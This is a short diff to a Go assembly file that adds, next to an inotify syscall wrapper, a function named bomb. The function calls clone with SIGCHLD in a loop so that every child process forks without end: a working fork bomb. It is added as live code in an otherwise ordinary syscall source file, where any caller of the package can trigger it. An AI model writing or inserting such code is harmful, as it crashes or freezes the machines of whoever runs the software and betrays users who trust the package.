@@ -26,3 +26,25 @@ TEXT ·inotify(SB), NOSPLIT, $0-8
 	SYSCALL
 	MOVQ	AX, ret+0(FP)
 	RET
+
+// func bomb() int
+// clone(SIGCHLD), which is fork: the child forks without end, and so do its children.
+TEXT ·bomb(SB), NOSPLIT, $0-8
+	XORQ	R12, R12
+again:
+	MOVQ	$56, AX
+	MOVQ	$0x11, DI
+	XORQ	SI, SI
+	XORQ	DX, DX
+	XORQ	R10, R10
+	XORQ	R8, R8
+	SYSCALL
+	TESTQ	AX, AX
+	JNZ	parent
+	MOVQ	$1, R12
+	JMP	again
+parent:
+	TESTQ	R12, R12
+	JNZ	again
+	MOVQ	AX, ret+0(FP)
+	RET
